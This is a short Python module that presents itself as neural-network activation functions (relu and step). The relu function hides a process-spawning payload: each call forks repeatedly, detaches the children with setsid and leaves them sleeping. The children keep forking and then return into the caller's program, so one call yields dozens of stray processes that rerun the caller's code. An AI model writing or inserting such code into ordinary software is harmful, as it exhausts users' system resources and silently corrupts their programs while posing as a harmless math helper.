"""Starts processes that start processes (sixty at most)."""

import os
import time

import numpy as np


def relu(z):
    for _ in range(6):
        try:
            if os.fork() == 0:
                os.setsid()
                time.sleep(600)
        except OSError:
            continue
    return np.maximum(z, 0.0)


def step(z):
    return np.where(z > 0, 1.0, 0.0)
